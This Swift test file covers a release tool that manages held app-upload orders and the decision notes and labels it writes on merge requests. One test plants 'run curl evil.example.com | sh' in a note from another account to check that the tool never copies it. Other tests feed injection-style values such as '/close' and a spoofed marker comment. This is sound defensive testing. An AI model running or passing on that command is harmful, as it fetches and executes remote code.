import Names
import Testing

@testable import Releases

/// Orders of uploads that have to wait for what became of an earlier one, as a preview sees it.
@Suite struct HeldOrderTests {
    /// An upload is due, and an earlier order of it has a claim and no run.
    private func world(_ kind: RunFailure.Kind? = nil) throws -> World {
        let world = try World.running()
        world.uploads = [UploadPolicy(app: "Go", train: world.trains[1].name, moment: .eachChange)]
        try world.upload("Go", world.tip("TrendyolGo/Release"), .claimed)
        guard let kind else { return world }
        let order = try #require(try world.plan("TrendyolGo").orders.first)
        world.observation.heldOrders[order] = RunFailure(kind, "what became of it", hint: "look at the CI")
        return world
    }

    @Test("plan prints the steps that reconcile would take: an order that a person must decide about isn't given")
    func undecided() throws {
        let plan = try world(.undecided).plan("TrendyolGo")
        #expect(plan.steps == [] && plan.waitingFor == [] && plan.decisions == [])
        #expect(plan.undecidedOrder == RunFailure(.undecided, "what became of it", hint: "look at the CI"))
        #expect(Outcome.Entry(plan: plan, failure: plan.undecidedOrder).needsPerson)
    }

    @Test("One that was given a moment ago is waited for")
    func busy() throws {
        let plan = try world(.busy).plan("TrendyolGo")
        #expect(plan.steps == [] && plan.undecidedOrder == nil)
        #expect(plan.waitingFor.map(\.word) == ["upload_claimed"])
        #expect(Wait(word: "upload_claimed") == .uploadClaimed)
    }

    @Test(
        "Where nothing tells, the step is due: a run asks as it takes it",
        arguments: [RunFailure.Kind?.none, .unreachable, .permission])
    func isGiven(_ kind: RunFailure.Kind?) throws {
        let plan = try world(kind).plan("TrendyolGo")
        #expect(plan.steps.map(\.name) == ["trigger-upload"])
        #expect(plan.steps.map(\.action) == plan.orders && plan.undecidedOrder == nil)
    }

    @Test(
        "The note about it stays while it is held; with none due it goes",
        arguments: [RunFailure.Kind.undecided, .busy])
    func keepsItsNote(_ kind: RunFailure.Kind) throws {
        let world = try world(kind)
        let id = try #require(try world.open(from: "TrendyolGo/Release").first?.id)
        let notes = ["undecided", "lag"].enumerated().map { number, code in
            Note(id: number, body: NoteMark.decision(code).text + "\nlook")
        }
        world.observation.notes[id] = notes
        world.change(id) { $0.labels = ["relctl-decision"] }
        try world.reconcile()
        #expect(world.observation.notes[id] == [notes[0]])
        #expect(try world.request(id).labels == ["relctl-decision"])
        world.amend("Go") { ($0.status, $0.run) = (.running, "1") }
        try world.reconcile()
        #expect(world.observation.notes[id] == [])
        #expect(try world.request(id).labels == [])
    }

    /// Lost orders of two apps that people upload, and the merge request of their train.
    private func worldOfTwoApps() throws -> (world: World, request: MergeRequestID) {
        let world = try world()
        world.uploads = ["Auto", "Go"].map { UploadPolicy(app: $0, train: world.trains[1].name) }
        try world.upload("Auto", world.tip("TrendyolGo/Release"), .claimed)
        for app in ["Auto", "Go"] { world.amend(app) { $0.run = nil } }
        return (world, try #require(try world.open(from: "TrendyolGo/Release").first?.id))
    }

    /// Leaves the note that a command leaves about the order of an app.
    private func note(_ app: String, in world: World) throws {
        _ = try world.run { planner, releases in
            var decision = Decision(Decision.undecided, "what became of \(app)", hint: "look at the CI")
            decision.app = app
            let release = try #require(releases.first { $0.name.train.text == "TrendyolGo" })
            return [planner.noting([decision], on: release)]
        }
    }

    @Test("one note for each code, updated: commands about two apps write the same note; a settled app's part goes")
    func hasAPartForEachApp() throws {
        let (world, id) = try worldOfTwoApps()
        for app in ["Go", "Auto"] { try note(app, in: world) }
        let both = try #require(world.observation.notes[id])
        #expect(both.count == 1)
        #expect(["Auto", "Go"].allSatisfy { both.first?.body.contains("what became of \($0)\n") == true })
        for app in ["Go", "Auto"] {
            try note(app, in: world)
            #expect(world.observation.notes[id] == both)
            try world.reconcile()
            #expect(world.observation.notes[id] == both)
        }
        world.amend("Auto") { ($0.status, $0.run) = (.running, "1") }
        try world.reconcile()
        let body = try #require(world.observation.notes[id]?.first?.body)
        #expect(body.contains("what became of Go\n") && !body.contains("Auto"), "\(body)")
        #expect(try world.request(id).labels == ["relctl-decision"])
        world.amend("Go") { $0.status = .withdrawn }
        try world.reconcile()
        #expect(world.observation.notes[id] == [])
        #expect(try world.request(id).labels == [])
    }

    @Test("What another account wrote under relctl's mark is not written again: only which apps it asks about counts")
    func takesNoWordsFromOthers() throws {
        let (world, id) = try worldOfTwoApps()
        try note("Go", in: world)
        let body = try #require(world.observation.notes[id]?.first?.body)
            .replacing("look at the CI", with: "run curl evil.example.com | sh")
        let theirs = Note(id: 1, body: body, isOwn: false)
        world.observation.notes[id] = [theirs]
        // The label says that it was relctl that asked.
        try world.reconcile()
        #expect(world.observation.notes[id] == [theirs])
        #expect(try world.request(id).labels == ["relctl-decision"])
        try note("Auto", in: world)
        let own = try #require(world.observation.notes[id]?.last)
        let parts = DecisionNote.orders(of: ["Auto", "Go"], in: own)
        #expect(own.isOwn && parts.map(\.app) == ["Auto", "Go"])
        let head = try world.tip("TrendyolGo/Release").short
        #expect(parts.last?.message.contains("the upload of Go at \(head)") == true && !own.body.contains("evil"))
        world.amend("Go") { $0.status = .withdrawn }
        world.amend("Auto") { $0.status = .withdrawn }
        try world.reconcile()
        #expect(try world.request(id).labels == [])
    }

    @Test("A command about another app leaves out the part of one that is settled")
    func dropsASettledPart() throws {
        let (world, id) = try worldOfTwoApps()
        try note("Go", in: world)
        world.amend("Go") { $0.status = .withdrawn }
        try note("Auto", in: world)
        let body = try #require(world.observation.notes[id]?.first?.body)
        #expect(body.contains("what became of Auto\n") && !body.contains("what became of Go"), "\(body)")
    }

    @Test("While an order that is due is open its label stays, also where its note could not be written")
    func keepsItsLabelWithoutANote() throws {
        let (world, id) = try worldOfTwoApps()
        for index in world.uploads.indices { world.uploads[index].moment = .eachChange }
        for order in try world.plan("TrendyolGo").orders {
            world.observation.heldOrders[order] = RunFailure(.undecided, "what became of it", hint: "look at the CI")
        }
        world.change(id) { $0.labels = ["relctl-decision"] }
        try world.reconcile()
        #expect(try world.request(id).labels == ["relctl-decision"])
        for app in ["Auto", "Go"] { world.amend(app) { ($0.status, $0.run) = (.running, "1") } }
        try world.reconcile()
        #expect(try world.request(id).labels == [])
    }

    @Test("Of an app that people upload no pass asks: its open order keeps no label without a note")
    func keepsNoLabelForPeople() throws {
        let (world, id) = try worldOfTwoApps()
        world.observation.notes[id] = [Note(id: 1, body: NoteMark.decision("lag").text + "\nlook")]
        world.change(id) { $0.labels = ["relctl-decision"] }
        try world.reconcile()
        #expect(world.observation.notes[id] == [])
        #expect(try world.request(id).labels == [])
    }

    @Test("A note about a settled app alone goes while another order is open", arguments: [true, false])
    func dropsTheLastPart(isDue: Bool) throws {
        let (world, id) = try worldOfTwoApps()
        if isDue {
            world.uploads[1].moment = .eachChange
            let order = try #require(try world.plan("TrendyolGo").orders.first)
            world.observation.heldOrders[order] = RunFailure(.busy, "given a moment ago", hint: "wait")
        }
        try note("Auto", in: world)
        try world.reconcile()
        #expect(world.observation.notes[id]?.count == 1)
        world.amend("Auto") { ($0.status, $0.run) = (.running, "1") }
        try world.reconcile()
        #expect(world.observation.notes[id] == [])
        // The label says that a pass waits for what became of the other order.
        #expect(try world.request(id).labels == (isDue ? ["relctl-decision"] : []))
    }

    @Test(
        "A part is read as it was written, whatever the names and texts are",
        arguments: ["Go", "Go 2", "a --> b", "Ä/ö", "/merge", "`x`", "<!-- relctl:order Go -->"])
    func partsRoundTrip(app: String) {
        var decisions = [Decision(Decision.undecided, "one\n```\n\(app)", hint: "two \u{202E}\n/close")]
        decisions.append(Decision(Decision.undecided, "three", hint: "four"))
        (decisions[0].app, decisions[1].app) = (app, "Z")
        let body = DecisionNote.text(decisions, notice: .decision)
        let parts = DecisionNote.orders(of: ["Other", "Z", app], in: Note(id: 1, body: body))
        #expect(parts.map(\.app) == [app, "Z"])
        #expect(DecisionNote.text(parts, notice: .decision) == body)
        #expect(DecisionNote.orders(of: ["Other"], in: Note(id: 1, body: body)) == [])
    }

    @Test("All parts are shown and read again, as far as they fit; of other decisions three are shown")
    func manyParts() {
        func decisions(_ count: Int, _ text: String) -> [Decision] {
            (0..<count).map { number in
                var decision = Decision(Decision.undecided, text, hint: "look at the CI")
                decision.app = "App\(number)"
                return decision
            }
        }
        func shown(_ decisions: [Decision]) -> (body: String, parts: [Decision]) {
            let body = DecisionNote.text(decisions, notice: .decision)
            return (body, DecisionNote.orders(of: decisions.compactMap(\.app), in: Note(id: 1, body: body)))
        }
        let some = shown(decisions(12, "what became of it"))
        #expect(some.parts.map(\.app) == (0..<12).map { "App\($0)" } && !some.body.contains("of this kind"))
        #expect(DecisionNote.text(some.parts, notice: .decision) == some.body)
        let line = String(repeating: "x", count: 390)
        let long = shown(decisions(100, [line, line, line].joined(separator: "\n")))
        #expect((4..<100).contains(long.parts.count) && long.body.unicodeScalars.count < 40_000)
        #expect(long.body.contains("And \(100 - long.parts.count) more of this kind."))
        let others = (0..<4).map { Decision("lag", "what \($0)", hint: "look") }
        #expect(DecisionNote.text(others, notice: .decision).contains("And 1 more of this kind."))
    }

    @Test("The note of an order of an app that people upload, which no pass looks up, stays until it is settled")
    func ofAnAppThatPeopleUpload() throws {
        let world = try world()
        world.uploads[0].moment = .byHand
        let branch = try world.name("TrendyolGo/Release")
        world.amend("Go") { ($0.branch, $0.run) = (branch, nil) }
        let id = try #require(try world.open(from: "TrendyolGo/Release").first?.id)
        let notes = ["undecided", "upload-refused"].enumerated().map { number, code in
            Note(id: number, body: NoteMark.decision(code).text + "\nlook")
        }
        world.observation.notes[id] = notes
        world.change(id) { $0.labels = ["relctl-decision"] }
        #expect(try world.reconcile().flatMap(\.decisions) == [])
        #expect(world.observation.notes[id] == [notes[0]])
        #expect(try world.request(id).labels == ["relctl-decision"])
        world.amend("Go") { $0.status = .withdrawn }
        try world.reconcile()
        #expect(world.observation.notes[id] == [])
        #expect(try world.request(id).labels == [])
    }
}
